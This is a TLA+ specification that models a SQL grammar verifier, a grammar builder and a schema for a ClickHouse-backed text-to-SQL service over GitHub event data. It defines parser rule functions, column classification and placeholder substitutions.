---- MODULE Spec2Model ----
(***************************************************************************)
(* Parsec: grammar verifier (lib/cfg/grammar-parser.ts), grammar template  *)
(* and builder (lib/cfg/grammar-template.ts, grammar-builder.ts) and the   *)
(* POST /api/query pipeline (app/api/query/route.ts).                      *)
(*                                                                         *)
(* SQL text is a TLA+ string; Len, SubSeq and \o act on its characters.    *)
(* Cursor positions are 0-based offsets as in ParseState.pos.              *)
(***************************************************************************)
EXTENDS Integers, Sequences, FiniteSets, TLC

VARIABLES
  sql,        \* parseQuery's argument
  input,      \* ParseState.input (the trimmed sql)
  pos,        \* ParseState.pos
  children,   \* parseQuery's children list
  pc,         \* position in parseQuery / in the rule call
  result,     \* value returned (Null for null)
  entry,      \* cursor position on entry to the rule function called
  query,      \* POST: the request's query field
  intent,     \* POST: intentResult.classification
  attempt,    \* POST: the retry loop's counter
  feedback,   \* POST: feedback handed to the next generateSQL
  validation, \* POST: the last ValidationResult
  generated,  \* the number of generateSQL calls POST made
  executed,   \* the strings executeQuery was called with, in order
  verified,   \* the strings parseQuery was called with by POST
  rows,       \* POST: rows of the last successful execution
  response,   \* the response POST returned
  tableSchema, \* buildGrammar: the TableSchema it was called with
  classified, \* buildGrammar: what classifyColumns returned
  output,     \* buildGrammar: the grammar string it returned
  concurrency, \* runConcurrent: its limit argument
  tasks,      \* runConcurrent: per task index, its state and resolved value
  started,    \* runConcurrent: per task index, how often tasks[i]() was called
  nextIdx,    \* runConcurrent: the shared index counter
  workers,    \* runConcurrent: per worker, where it stands and its index i
  results,    \* runConcurrent: the results array
  settled,    \* runConcurrent: how the promise it returned has settled
  cachedSchema, \* schema module: the cached TableSchema, or NoSchema for null
  calls,      \* getTableSchema: per call, where it stands and what it returned
  queried     \* getTableSchema: per call, whether it queried ClickHouse

parserVars == <<sql, input, pos, children, pc, result, entry>>

routeVars ==
  <<query, intent, attempt, feedback, validation, generated, executed,
    verified, rows, response>>

builderVars == <<tableSchema, classified, output>>

poolVars == <<concurrency, tasks, started, nextIdx, workers, results, settled>>

cacheVars == <<cachedSchema, calls, queried>>

vars == <<parserVars, routeVars, builderVars, poolVars, cacheVars>>

\* ------------------------------------------------------------------------
\* Derivation nodes
\* ------------------------------------------------------------------------

Null == [rule |-> "", matchedText |-> "", children |-> <<>>]

node(rule, matchedText, kids) ==
  [rule |-> rule, matchedText |-> matchedText, children |-> kids]

\* What a rule function leaves behind: the node it returns and the cursor.
Ret(n, p) == [node |-> n, pos |-> p]

\* ------------------------------------------------------------------------
\* ParseState
\* ------------------------------------------------------------------------

\* String.prototype.startsWith(str, pos)
startsWith(s, str, p) ==
  /\ p + Len(str) <= Len(s)
  /\ SubSeq(s, p + 1, p + Len(str)) = str

\* ParseState.matchLiteral: the cursor after the call (unchanged on failure)
matchLiteral(s, p, str) == IF startsWith(s, str, p) THEN p + Len(str) ELSE p

isAtEnd(s, p) == p >= Len(s)

charAt(s, p) == SubSeq(s, p + 1, p + 1)

Digit == {"0", "1", "2", "3", "4", "5", "6", "7", "8", "9"}
Lower == {"a", "b", "c", "d", "e", "f", "g", "h", "i", "j", "k", "l", "m",
          "n", "o", "p", "q", "r", "s", "t", "u", "v", "w", "x", "y", "z"}
Upper == {"A", "B", "C", "D", "E", "F", "G", "H", "I", "J", "K", "L", "M",
          "N", "O", "P", "Q", "R", "S", "T", "U", "V", "W", "X", "Y", "Z"}
AliasStart == Lower \cup {"_"}
AliasRest == Lower \cup Digit \cup {"_"}
StringValueChar == Lower \cup Upper \cup Digit \cup {"_", ".", "-", "/"}
WhiteSpace == {" ", "\t", "\n", "\r", "\f"}

\* Greedy match of [cls]{0,max} at p: the number of characters matched.
RECURSIVE classRun(_, _, _, _)
classRun(s, p, cls, max) ==
  IF max = 0 \/ p >= Len(s) \/ charAt(s, p) \notin cls
  THEN 0
  ELSE 1 + classRun(s, p + 1, cls, max - 1)

\* String.prototype.trim
RECURSIVE trimStart(_)
trimStart(s) ==
  IF Len(s) > 0 /\ charAt(s, 0) \in WhiteSpace THEN trimStart(Tail(s)) ELSE s

RECURSIVE trimEnd(_)
trimEnd(s) ==
  IF Len(s) > 0 /\ charAt(s, Len(s) - 1) \in WhiteSpace
  THEN trimEnd(SubSeq(s, 1, Len(s) - 1))
  ELSE s

trim(s) == trimEnd(trimStart(s))

\* ------------------------------------------------------------------------
\* Known terminals
\* ------------------------------------------------------------------------

AGG_FUNCS == <<"count", "sum", "avg", "min", "max", "uniq", "uniqExact">>

DATE_TRUNC_EXPRS ==
  <<"toStartOfHour(created_at)", "toStartOfDay(created_at)",
    "toStartOfWeek(created_at)", "toStartOfMonth(created_at)",
    "toDate(created_at)">>

\* The operators with the one-character ones listed first.
COMPARE_OPS_ShortFirst == <<"=", ">", "<", "!=", ">=", "<=">>

COMPARE_OPS == <<"!=", ">=", "<=", "=", ">", "<">>
TIME_UNITS == <<"HOUR", "DAY", "WEEK", "MONTH">>

KNOWN_COLUMNS ==
  <<"actor_login", "repo_name", "title", "body", "ref", "id", "number",
    "is_private", "created_at", "type", "action">>

\* STRING_COLS with the enum column action among the string columns.
STRING_COLS_WithAction ==
  <<"actor_login", "repo_name", "title", "body", "ref", "action">>

STRING_COLS == <<"actor_login", "repo_name", "title", "body", "ref">>
NUMERIC_COLS == <<"id", "number", "is_private">>

\* [...list].sort((a, b) => b.length - a.length): stable, longest first
RECURSIVE insertByLength(_, _)
insertByLength(sorted, x) ==
  IF sorted = <<>> THEN <<x>>
  ELSE IF Len(Head(sorted)) >= Len(x)
       THEN <<Head(sorted)>> \o insertByLength(Tail(sorted), x)
       ELSE <<x>> \o sorted

RECURSIVE sortByLengthDesc(_)
sortByLengthDesc(list) ==
  IF list = <<>> THEN <<>>
  ELSE insertByLength(sortByLengthDesc(SubSeq(list, 1, Len(list) - 1)),
                      list[Len(list)])

sortedColumns == sortByLengthDesc(KNOWN_COLUMNS)
sortedAggFuncs == sortByLengthDesc(AGG_FUNCS)
sortedDateTruncExprs == sortByLengthDesc(DATE_TRUNC_EXPRS)
sortedStringCols == sortByLengthDesc(STRING_COLS)
sortedNumericCols == sortByLengthDesc(NUMERIC_COLS)

\* for (const x of list) if (state.matchLiteral(x)) return ...:
\* the index of the first entry matching at p, 0 when none does
firstMatch(s, p, list) ==
  LET hits == {i \in 1..Len(list) : startsWith(s, list[i], p)}
  IN IF hits = {} THEN 0 ELSE CHOOSE i \in hits : \A j \in hits : i <= j

\* items.map((i) => i.matchedText).join(sep)
RECURSIVE joinText(_, _)
joinText(items, sep) ==
  IF items = <<>> THEN ""
  ELSE IF Len(items) = 1 THEN items[1].matchedText
       ELSE items[1].matchedText \o sep \o joinText(Tail(items), sep)

\* values.map((v) => `'${v.matchedText}'`).join(", ")
RECURSIVE joinQuoted(_)
joinQuoted(values) ==
  IF values = <<>> THEN ""
  ELSE IF Len(values) = 1 THEN "'" \o values[1].matchedText \o "'"
       ELSE "'" \o values[1].matchedText \o "', " \o joinQuoted(Tail(values))

\* ------------------------------------------------------------------------
\* Recursive descent rule functions
\* ------------------------------------------------------------------------

\* parseNumber with the regex widened to seven digits.
parseNumberSevenDigits(s, p) ==
  LET n == classRun(s, p, Digit, 7)
  IN IF n >= 1 THEN Ret(node("number", SubSeq(s, p + 1, p + n), <<>>), p + n)
     ELSE Ret(Null, p)

parseNumber(s, p) ==
  LET n == classRun(s, p, Digit, 6)
  IN IF n >= 1 THEN Ret(node("number", SubSeq(s, p + 1, p + n), <<>>), p + n)
     ELSE Ret(Null, p)

parseAlias(s, p) ==
  IF p < Len(s) /\ charAt(s, p) \in AliasStart
  THEN LET n == 1 + classRun(s, p + 1, AliasRest, 29)
       IN Ret(node("alias", SubSeq(s, p + 1, p + n), <<>>), p + n)
  ELSE Ret(Null, p)

\* STRING_VALUE read as {0,100}: a node even when no character matches.
parseStringValueAllowEmpty(s, p) ==
  LET n == classRun(s, p, StringValueChar, 100)
  IN Ret(node("string_value", SubSeq(s, p + 1, p + n), <<>>), p + n)

parseStringValue(s, p) ==
  LET n == classRun(s, p, StringValueChar, 100)
  IN IF n >= 1
     THEN Ret(node("string_value", SubSeq(s, p + 1, p + n), <<>>), p + n)
     ELSE Ret(Null, p)

parseDateLiteral(s, p) ==
  IF /\ classRun(s, p, Digit, 4) = 4
     /\ startsWith(s, "-", p + 4)
     /\ classRun(s, p + 5, Digit, 2) = 2
     /\ startsWith(s, "-", p + 7)
     /\ classRun(s, p + 8, Digit, 2) = 2
  THEN Ret(node("date_literal", SubSeq(s, p + 1, p + 10), <<>>), p + 10)
  ELSE Ret(Null, p)

parseColumnRef(s, p) ==
  LET saved == p
      i == firstMatch(s, p, sortedColumns)
  IN IF i # 0
     THEN Ret(node("column_ref", sortedColumns[i], <<>>),
              matchLiteral(s, p, sortedColumns[i]))
     ELSE Ret(Null, saved)

parseAggFunc(s, p) ==
  LET i == firstMatch(s, p, sortedAggFuncs)
  IN IF i # 0
     THEN Ret(node("agg_func", sortedAggFuncs[i], <<>>),
              matchLiteral(s, p, sortedAggFuncs[i]))
     ELSE Ret(Null, p)

parseAggExpr(s, p) ==
  LET saved == p
      afterColRef(func, colRef) ==
        IF ~startsWith(s, ")", colRef.pos) THEN Ret(Null, saved)
        ELSE IF colRef.node # Null
        THEN Ret(node("agg_expr",
                      func.node.matchedText \o "("
                        \o colRef.node.matchedText \o ")",
                      <<func.node, colRef.node>>),
                 colRef.pos + 1)
        ELSE Ret(node("agg_expr", func.node.matchedText \o "()",
                      <<func.node>>),
                 colRef.pos + 1)
      afterFunc(func) ==
        IF func.node = Null THEN Ret(Null, func.pos)
        ELSE IF ~startsWith(s, "(", func.pos) THEN Ret(Null, saved)
        ELSE afterColRef(func, parseColumnRef(s, func.pos + 1))
  IN afterFunc(parseAggFunc(s, p))

parseDateTruncExpr(s, p) ==
  LET i == firstMatch(s, p, sortedDateTruncExprs)
  IN IF i # 0
     THEN Ret(node("date_trunc_expr", sortedDateTruncExprs[i], <<>>),
              matchLiteral(s, p, sortedDateTruncExprs[i]))
     ELSE Ret(Null, p)

parseSelectItem(s, p) ==
  LET saved == p
      aliased(expr, alias) ==
        Ret(node("select_item",
                 expr.node.matchedText \o " AS " \o alias.node.matchedText,
                 <<expr.node, alias.node>>),
            alias.pos)
      plain(colRef) ==
        IF colRef.node # Null
        THEN Ret(node("select_item", colRef.node.matchedText,
                      <<colRef.node>>),
                 colRef.pos)
        ELSE Ret(Null, colRef.pos)
      afterDtAlias(dtExpr, dtAlias) ==
        IF /\ dtExpr.node # Null
           /\ startsWith(s, " AS ", dtExpr.pos)
           /\ dtAlias.node # Null
        THEN aliased(dtExpr, dtAlias)
        ELSE plain(parseColumnRef(s, saved))
      afterDtExpr(dtExpr) ==
        afterDtAlias(dtExpr, parseAlias(s, dtExpr.pos + 4))
      afterAggAlias(aggExpr, aggAlias) ==
        IF /\ aggExpr.node # Null
           /\ startsWith(s, " AS ", aggExpr.pos)
           /\ aggAlias.node # Null
        THEN aliased(aggExpr, aggAlias)
        ELSE afterDtExpr(parseDateTruncExpr(s, saved))
      afterAggExpr(aggExpr) ==
        afterAggAlias(aggExpr, parseAlias(s, aggExpr.pos + 4))
  IN afterAggExpr(parseAggExpr(s, p))

\* while (state.matchLiteral(", ")) { next = parseSelectItem; if (!next) break; ... }
RECURSIVE selectItems(_, _, _)
selectItems(s, p, items) ==
  LET afterNext(next) ==
        IF next.node = Null THEN [items |-> items, pos |-> next.pos]
        ELSE selectItems(s, next.pos, Append(items, next.node))
  IN IF ~startsWith(s, ", ", p) THEN [items |-> items, pos |-> p]
     ELSE afterNext(parseSelectItem(s, p + 2))

parseSelectClause(s, p) ==
  LET saved == p
      afterRest(rest) ==
        Ret(node("select_clause", "SELECT " \o joinText(rest.items, ", "),
                 rest.items),
            rest.pos)
      afterFirst(first) ==
        IF first.node = Null THEN Ret(Null, saved)
        ELSE afterRest(selectItems(s, first.pos, <<first.node>>))
  IN IF ~startsWith(s, "SELECT ", p) THEN Ret(Null, saved)
     ELSE afterFirst(parseSelectItem(s, p + 7))

parseFromClause(s, p) ==
  IF startsWith(s, " FROM github_events", p)
  THEN Ret(node("from_clause", "FROM github_events", <<>>),
           matchLiteral(s, p, " FROM github_events"))
  ELSE Ret(Null, p)

parseCompareOp(s, p) ==
  LET i == firstMatch(s, p, COMPARE_OPS)
  IN IF i # 0
     THEN Ret(node("compare_op", COMPARE_OPS[i], <<>>),
              matchLiteral(s, p, COMPARE_OPS[i]))
     ELSE Ret(Null, p)

\* while (state.matchLiteral(", '")) { next = parseStringValue;
\*   if (next && state.matchLiteral("'")) values.push(next); else break; }
RECURSIVE quotedValues(_, _, _)
quotedValues(s, p, values) ==
  LET afterNext(next) ==
        IF next.node # Null /\ startsWith(s, "'", next.pos)
        THEN quotedValues(s, next.pos + 1, Append(values, next.node))
        ELSE [items |-> values, pos |-> next.pos]
  IN IF ~startsWith(s, ", '", p) THEN [items |-> values, pos |-> p]
     ELSE afterNext(parseStringValue(s, p + 3))

\* The body of an IN (...) list after the opening parenthesis: the values
\* collected and the cursor where the closing ")" is then looked for.
inList(s, p) ==
  LET afterFirst(v) ==
        IF v.node # Null /\ startsWith(s, "'", v.pos)
        THEN quotedValues(s, v.pos + 1, <<v.node>>)
        ELSE [items |-> <<>>, pos |-> v.pos]
  IN IF ~startsWith(s, "'", p) THEN [items |-> <<>>, pos |-> p]
     ELSE afterFirst(parseStringValue(s, p + 1))

\* One iteration of parseStringCondition's loop over the sorted columns.
stringConditionFor(s, p, col) ==
  LET saved == p
      colNode == node("string_col", col, <<>>)
      afterList(values) ==
        IF /\ startsWith(s, col \o " IN (", p)
           /\ startsWith(s, ")", values.pos)
           /\ Len(values.items) > 0
        THEN Ret(node("string_condition",
                      col \o " IN (" \o joinQuoted(values.items) \o ")",
                      <<colNode>> \o values.items),
                 values.pos + 1)
        ELSE Ret(Null, saved)
      afterLike(likeVal) ==
        IF /\ startsWith(s, col \o " LIKE '%", p)
           /\ likeVal.node # Null
           /\ startsWith(s, "%'", likeVal.pos)
        THEN Ret(node("string_condition",
                      col \o " LIKE '%" \o likeVal.node.matchedText \o "%'",
                      <<colNode, likeVal.node>>),
                 likeVal.pos + 2)
        ELSE afterList(inList(s, p + Len(col \o " IN (")))
      afterEq(eqVal) ==
        IF /\ startsWith(s, col \o " = '", p)
           /\ eqVal.node # Null
           /\ startsWith(s, "'", eqVal.pos)
        THEN Ret(node("string_condition",
                      col \o " = '" \o eqVal.node.matchedText \o "'",
                      <<colNode, eqVal.node>>),
                 eqVal.pos + 1)
        ELSE afterLike(parseStringValue(s, p + Len(col \o " LIKE '%")))
  IN afterEq(parseStringValue(s, p + Len(col \o " = '")))

parseStringCondition(s, p) ==
  LET saved == p
      firstOf(hits) ==
        IF hits = {} THEN Ret(Null, saved)
        ELSE stringConditionFor(
               s, p, sortedStringCols[CHOOSE i \in hits : \A j \in hits : i <= j])
  IN firstOf({i \in 1..Len(sortedStringCols) :
               stringConditionFor(s, p, sortedStringCols[i]).node # Null})

\* One iteration of parseNumericCondition's loop over the sorted columns.
numericConditionFor(s, p, col) ==
  LET afterNum(op, num) ==
        IF /\ startsWith(s, col \o " ", p)
           /\ op.node # Null
           /\ startsWith(s, " ", op.pos)
           /\ num.node # Null
        THEN Ret(node("numeric_condition",
                      col \o " " \o op.node.matchedText \o " "
                        \o num.node.matchedText,
                      <<node("numeric_col", col, <<>>), op.node, num.node>>),
                 num.pos)
        ELSE Ret(Null, p)
      afterOp(op) == afterNum(op, parseNumber(s, op.pos + 1))
  IN afterOp(parseCompareOp(s, p + Len(col) + 1))

parseNumericCondition(s, p) ==
  LET saved == p
      firstOf(hits) ==
        IF hits = {} THEN Ret(Null, saved)
        ELSE numericConditionFor(
               s, p, sortedNumericCols[CHOOSE i \in hits : \A j \in hits : i <= j])
  IN firstOf({i \in 1..Len(sortedNumericCols) :
               numericConditionFor(s, p, sortedNumericCols[i]).node # Null})

parseDatetimeCondition(s, p) ==
  LET saved == p
      afterSecond(d1, d2) ==
        IF /\ startsWith(s, "created_at BETWEEN '", p)
           /\ d1.node # Null
           /\ startsWith(s, "' AND '", d1.pos)
           /\ d2.node # Null
           /\ startsWith(s, "'", d2.pos)
        THEN Ret(node("datetime_condition",
                      "created_at BETWEEN '" \o d1.node.matchedText
                        \o "' AND '" \o d2.node.matchedText \o "'",
                      <<d1.node, d2.node>>),
                 d2.pos + 1)
        ELSE Ret(Null, saved)
      afterFirst(d1) ==
        afterSecond(d1, parseDateLiteral(s, d1.pos + Len("' AND '")))
      afterUnit(num, unit) ==
        IF /\ startsWith(s, "created_at >= now() - INTERVAL ", p)
           /\ num.node # Null
           /\ startsWith(s, " ", num.pos)
           /\ unit # 0
        THEN Ret(node("datetime_condition",
                      "created_at >= now() - INTERVAL "
                        \o num.node.matchedText \o " " \o TIME_UNITS[unit],
                      <<num.node, node("time_unit", TIME_UNITS[unit], <<>>)>>),
                 matchLiteral(s, num.pos + 1, TIME_UNITS[unit]))
        ELSE afterFirst(
               parseDateLiteral(s, p + Len("created_at BETWEEN '")))
      afterNum(num) == afterUnit(num, firstMatch(s, num.pos + 1, TIME_UNITS))
  IN afterNum(parseNumber(s, p + Len("created_at >= now() - INTERVAL ")))

parseEnumCondition(s, p) ==
  LET saved == p
      afterAction(actionVal) ==
        IF /\ startsWith(s, "action = '", p)
           /\ actionVal.node # Null
           /\ startsWith(s, "'", actionVal.pos)
        THEN Ret(node("enum_condition",
                      "action = '" \o actionVal.node.matchedText \o "'",
                      <<actionVal.node>>),
                 actionVal.pos + 1)
        ELSE Ret(Null, saved)
      afterList(values) ==
        IF /\ startsWith(s, "type IN (", p)
           /\ startsWith(s, ")", values.pos)
           /\ Len(values.items) > 0
        THEN Ret(node("enum_condition",
                      "type IN (" \o joinQuoted(values.items) \o ")",
                      values.items),
                 values.pos + 1)
        ELSE afterAction(parseStringValue(s, p + Len("action = '")))
      afterType(typeVal) ==
        IF /\ startsWith(s, "type = '", p)
           /\ typeVal.node # Null
           /\ startsWith(s, "'", typeVal.pos)
        THEN Ret(node("enum_condition",
                      "type = '" \o typeVal.node.matchedText \o "'",
                      <<typeVal.node>>),
                 typeVal.pos + 1)
        ELSE afterList(inList(s, p + Len("type IN (")))
  IN afterType(parseStringValue(s, p + Len("type = '")))

\* parseDatetimeCondition ?? parseEnumCondition ?? parseStringCondition
\*   ?? parseNumericCondition
parseCondition(s, p) ==
  LET orNumeric(st) ==
        IF st.node # Null THEN st ELSE parseNumericCondition(s, st.pos)
      orString(en) ==
        IF en.node # Null THEN en ELSE orNumeric(parseStringCondition(s, en.pos))
      orEnum(dt) ==
        IF dt.node # Null THEN dt ELSE orString(parseEnumCondition(s, dt.pos))
  IN orEnum(parseDatetimeCondition(s, p))

RECURSIVE conditions(_, _, _)
conditions(s, p, items) ==
  LET afterNext(next) ==
        IF next.node = Null THEN [items |-> items, pos |-> next.pos]
        ELSE conditions(s, next.pos, Append(items, next.node))
  IN IF ~startsWith(s, " AND ", p) THEN [items |-> items, pos |-> p]
     ELSE afterNext(parseCondition(s, p + 5))

parseWhereClause(s, p) ==
  LET saved == p
      afterRest(rest) ==
        Ret(node("where_clause", "WHERE " \o joinText(rest.items, " AND "),
                 rest.items),
            rest.pos)
      afterFirst(first) ==
        IF first.node = Null THEN Ret(Null, saved)
        ELSE afterRest(conditions(s, first.pos, <<first.node>>))
  IN IF ~startsWith(s, " WHERE ", p) THEN Ret(Null, saved)
     ELSE afterFirst(parseCondition(s, p + 7))

parseGroupItem(s, p) ==
  LET item(r) ==
        IF r.node # Null
        THEN Ret(node("group_item", r.node.matchedText, <<r.node>>), r.pos)
        ELSE Ret(Null, r.pos)
      orAlias(colRef) ==
        IF colRef.node # Null THEN item(colRef)
        ELSE item(parseAlias(s, colRef.pos))
      orColumnRef(dtExpr) ==
        IF dtExpr.node # Null THEN item(dtExpr)
        ELSE orAlias(parseColumnRef(s, dtExpr.pos))
  IN orColumnRef(parseDateTruncExpr(s, p))

RECURSIVE groupItems(_, _, _)
groupItems(s, p, items) ==
  LET afterNext(next) ==
        IF next.node = Null THEN [items |-> items, pos |-> next.pos]
        ELSE groupItems(s, next.pos, Append(items, next.node))
  IN IF ~startsWith(s, ", ", p) THEN [items |-> items, pos |-> p]
     ELSE afterNext(parseGroupItem(s, p + 2))

parseGroupClause(s, p) ==
  LET saved == p
      afterRest(rest) ==
        Ret(node("group_clause", "GROUP BY " \o joinText(rest.items, ", "),
                 rest.items),
            rest.pos)
      afterFirst(first) ==
        IF first.node = Null THEN Ret(Null, saved)
        ELSE afterRest(groupItems(s, first.pos, <<first.node>>))
  IN IF ~startsWith(s, " GROUP BY ", p) THEN Ret(Null, saved)
     ELSE afterFirst(parseGroupItem(s, p + 10))

parseHavingClause(s, p) ==
  LET saved == p
      afterNum(aggExpr, op, num) ==
        IF num.node = Null THEN Ret(Null, saved)
        ELSE Ret(node("having_clause",
                      "HAVING " \o aggExpr.node.matchedText \o " "
                        \o op.node.matchedText \o " "
                        \o num.node.matchedText,
                      <<aggExpr.node, op.node, num.node>>),
                 num.pos)
      afterOp(aggExpr, op) ==
        IF op.node = Null THEN Ret(Null, saved)
        ELSE IF ~startsWith(s, " ", op.pos) THEN Ret(Null, saved)
        ELSE afterNum(aggExpr, op, parseNumber(s, op.pos + 1))
      afterAggExpr(aggExpr) ==
        IF aggExpr.node = Null THEN Ret(Null, saved)
        ELSE IF ~startsWith(s, " ", aggExpr.pos) THEN Ret(Null, saved)
        ELSE afterOp(aggExpr, parseCompareOp(s, aggExpr.pos + 1))
  IN IF ~startsWith(s, " HAVING ", p) THEN Ret(Null, saved)
     ELSE afterAggExpr(parseAggExpr(s, p + 8))

parseOrderItem(s, p) ==
  LET saved == p
      withDirection(base) ==
        IF base.node = Null THEN Ret(Null, saved)
        ELSE IF startsWith(s, " DESC", base.pos)
        THEN Ret(node("order_item", base.node.matchedText \o " DESC",
                      <<base.node, node("direction", "DESC", <<>>)>>),
                 base.pos + 5)
        ELSE IF startsWith(s, " ASC", base.pos)
        THEN Ret(node("order_item", base.node.matchedText \o " ASC",
                      <<base.node, node("direction", "ASC", <<>>)>>),
                 base.pos + 4)
        ELSE Ret(node("order_item", base.node.matchedText, <<base.node>>),
                 base.pos)
      orAlias(colRef) ==
        IF colRef.node # Null THEN withDirection(colRef)
        ELSE withDirection(parseAlias(s, colRef.pos))
      orColumnRef(aggExpr) ==
        IF aggExpr.node # Null THEN withDirection(aggExpr)
        ELSE orAlias(parseColumnRef(s, aggExpr.pos))
  IN orColumnRef(parseAggExpr(s, p))

RECURSIVE orderItems(_, _, _)
orderItems(s, p, items) ==
  LET afterNext(next) ==
        IF next.node = Null THEN [items |-> items, pos |-> next.pos]
        ELSE orderItems(s, next.pos, Append(items, next.node))
  IN IF ~startsWith(s, ", ", p) THEN [items |-> items, pos |-> p]
     ELSE afterNext(parseOrderItem(s, p + 2))

parseOrderClause(s, p) ==
  LET saved == p
      afterRest(rest) ==
        Ret(node("order_clause", "ORDER BY " \o joinText(rest.items, ", "),
                 rest.items),
            rest.pos)
      afterFirst(first) ==
        IF first.node = Null THEN Ret(Null, saved)
        ELSE afterRest(orderItems(s, first.pos, <<first.node>>))
  IN IF ~startsWith(s, " ORDER BY ", p) THEN Ret(Null, saved)
     ELSE afterFirst(parseOrderItem(s, p + 10))

\* parseLimitClause without state.restore(saved) when the number is missing.
parseLimitClauseNoRestore(s, p) ==
  LET afterNum(num) ==
        IF num.node = Null THEN Ret(Null, p + 7)
        ELSE Ret(node("limit_clause", "LIMIT " \o num.node.matchedText,
                      <<num.node>>),
                 num.pos)
  IN IF ~startsWith(s, " LIMIT ", p) THEN Ret(Null, p)
     ELSE afterNum(parseNumber(s, p + 7))

parseLimitClause(s, p) ==
  LET saved == p
      afterNum(num) ==
        IF num.node = Null THEN Ret(Null, saved)
        ELSE Ret(node("limit_clause", "LIMIT " \o num.node.matchedText,
                      <<num.node>>),
                 num.pos)
  IN IF ~startsWith(s, " LIMIT ", p) THEN Ret(Null, saved)
     ELSE afterNum(parseNumber(s, p + 7))

\* ------------------------------------------------------------------------
\* Top-level parse
\* ------------------------------------------------------------------------

\* if (clause) children.push(clause)
pushIf(kids, r) == IF r.node # Null THEN Append(kids, r.node) ELSE kids

parseQuery(q) ==
  LET s == trim(q)
      atEnd(kids, p) ==
        IF ~isAtEnd(s, p) THEN node("query (partial)", q, kids)
        ELSE node("query", q, kids)
      afterLimit(kids, r) == atEnd(pushIf(kids, r), r.pos)
      afterOrder(kids, r) ==
        afterLimit(pushIf(kids, r), parseLimitClause(s, r.pos))
      afterHaving(kids, r) ==
        afterOrder(pushIf(kids, r), parseOrderClause(s, r.pos))
      afterGroup(kids, r) ==
        afterHaving(pushIf(kids, r), parseHavingClause(s, r.pos))
      afterWhere(kids, r) ==
        afterGroup(pushIf(kids, r), parseGroupClause(s, r.pos))
      afterFrom(kids, r) ==
        IF r.node = Null THEN Null
        ELSE afterWhere(Append(kids, r.node), parseWhereClause(s, r.pos))
      afterSelect(r) ==
        IF r.node = Null THEN Null
        ELSE afterFrom(<<r.node>>, parseFromClause(s, r.pos))
  IN afterSelect(parseSelectClause(s, 0))

isValidGrammarSQL(q) ==
  LET isQuery(r) == r # Null /\ r.rule = "query" IN isQuery(parseQuery(q))

\* ------------------------------------------------------------------------
\* Schema (lib/clickhouse/schema.ts)
\* ------------------------------------------------------------------------

KNOWN_EVENT_TYPES ==
  <<"CommitCommentEvent", "CreateEvent", "DeleteEvent", "ForkEvent",
    "GollumEvent", "IssueCommentEvent", "IssuesEvent", "MemberEvent",
    "PublicEvent", "PullRequestEvent", "PullRequestReviewCommentEvent",
    "PullRequestReviewEvent", "PushEvent", "ReleaseEvent", "SponsorshipEvent",
    "WatchEvent">>

KNOWN_ACTION_VALUES ==
  <<"opened", "closed", "reopened", "created", "edited", "deleted", "added",
    "removed", "published">>

\* A ColumnInfo; enumValues is <<>> when the field is absent.
col(name, type, enumValues) ==
  [name |-> name, type |-> type, enumValues |-> enumValues]

STATIC_SCHEMA ==
  [tableName |-> "github_events",
   columns |->
     <<col("id", "UInt64", <<>>),
       col("type", "Enum8", KNOWN_EVENT_TYPES),
       col("actor_login", "LowCardinality(String)", <<>>),
       col("repo_name", "LowCardinality(String)", <<>>),
       col("created_at", "DateTime", <<>>),
       col("action", "LowCardinality(String)", <<>>),
       col("number", "UInt32", <<>>),
       col("title", "String", <<>>),
       col("body", "String", <<>>),
       col("ref", "LowCardinality(String)", <<>>),
       col("is_private", "UInt8", <<>>)>>]

isStringType(type) ==
  \/ type = "String"
  \/ startsWith(type, "LowCardinality(String", 0)
  \/ startsWith(type, "Nullable(String", 0)

isNumericType(type) ==
  \/ startsWith(type, "UInt", 0)
  \/ startsWith(type, "Int", 0)
  \/ startsWith(type, "Float", 0)
  \/ startsWith(type, "Decimal", 0)

isDateTimeType(type) ==
  type = "DateTime" \/ type = "Date" \/ startsWith(type, "DateTime64", 0)

\* ------------------------------------------------------------------------
\* Grammar builder (lib/cfg/grammar-builder.ts)
\* ------------------------------------------------------------------------

RECURSIVE classifyFrom(_, _)
classifyFrom(columns, acc) ==
  IF columns = <<>> THEN acc
  ELSE LET c == Head(columns)
           all == [acc EXCEPT !.allCols = Append(@, c.name)]
       IN classifyFrom(
            Tail(columns),
            IF Len(c.enumValues) > 0
            THEN [all EXCEPT !.enumCols =
                    Append(@, [name |-> c.name, values |-> c.enumValues])]
            ELSE IF isDateTimeType(c.type)
            THEN [all EXCEPT !.dateTimeCols = Append(@, c.name)]
            ELSE IF isStringType(c.type)
            THEN [all EXCEPT !.stringCols = Append(@, c.name)]
            ELSE IF isNumericType(c.type)
            THEN [all EXCEPT !.numericCols = Append(@, c.name)]
            ELSE all)

classifyColumns(schema) ==
  classifyFrom(schema.columns,
               [stringCols |-> <<>>, numericCols |-> <<>>,
                dateTimeCols |-> <<>>, enumCols |-> <<>>, allCols |-> <<>>])

includes(list, x) == \E i \in 1..Len(list) : list[i] = x

\* [...new Set(list)]: first occurrences, in order
RECURSIVE unique(_)
unique(list) ==
  IF list = <<>> THEN <<>>
  ELSE LET init == unique(SubSeq(list, 1, Len(list) - 1))
           x == list[Len(list)]
       IN IF includes(init, x) THEN init ELSE Append(init, x)

RECURSIVE filterIncluded(_, _)
filterIncluded(list, allowed) ==
  IF list = <<>> THEN <<>>
  ELSE IF includes(allowed, Head(list))
       THEN <<Head(list)>> \o filterIncluded(Tail(list), allowed)
       ELSE filterIncluded(Tail(list), allowed)

\* The values buildGrammar computes for the six placeholders, fallbacks
\* included, before they are formatted and substituted.
substitutions(schema) ==
  LET c == classifyColumns(schema)
      enumColNames == [i \in 1..Len(c.enumCols) |-> c.enumCols[i].name]
      allColumnRef ==
        c.stringCols \o c.numericCols \o c.dateTimeCols \o enumColNames
      uniqueColumnRef == unique(filterIncluded(allColumnRef, c.allCols))
      typeCols == {i \in 1..Len(c.enumCols) : c.enumCols[i].name = "type"}
      eventTypes ==
        IF typeCols = {} THEN KNOWN_EVENT_TYPES
        ELSE c.enumCols[CHOOSE i \in typeCols : \A j \in typeCols : i <= j].values
  IN [TABLE_NAME |-> schema.tableName,
      STRING_COLS |-> IF Len(c.stringCols) > 0 THEN c.stringCols
                      ELSE <<"actor_login">>,
      NUMERIC_COLS |-> IF Len(c.numericCols) > 0 THEN c.numericCols
                       ELSE <<"id">>,
      COLUMN_REF |-> IF Len(uniqueColumnRef) > 0 THEN uniqueColumnRef
                     ELSE <<"id">>,
      EVENT_TYPES |-> eventTypes,
      ACTION_VALUES |-> KNOWN_ACTION_VALUES]

\* The alternatives of the grammar handed to the generator for the default
\* schema.
grammar == substitutions(STATIC_SCHEMA)

